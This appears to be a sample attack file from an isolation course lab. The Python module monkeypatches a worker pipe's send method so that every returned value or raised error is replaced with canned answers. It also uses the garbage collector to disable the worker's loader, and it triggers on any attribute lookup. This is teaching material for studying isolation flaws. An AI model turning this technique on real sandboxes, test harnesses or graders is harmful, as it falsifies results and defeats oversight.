"""Takes the worker over and answers every request itself, with whatever was last handed to it."""
# lab: 01, sample

import gc

from course.isolation.pipe import peer

SENT = peer.Peer.send
ANSWERS = [True, False, None, 0, "", [], "3.14159", 1.0]


def send(self, kind, value, **header):
    if kind in ("returned", "raised") and not isinstance(value, type(send)):
        ANSWERS.append(ANSWERS.pop(0))
        kind, value = "returned", ANSWERS[-1]
    return SENT(self, kind, value, **header)


def attack(*args, **kwargs):
    peer.Peer.send = send
    for found in gc.get_objects():
        if type(found).__name__ == "Worker":
            found._load = lambda wanted: None
    return None


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return attack
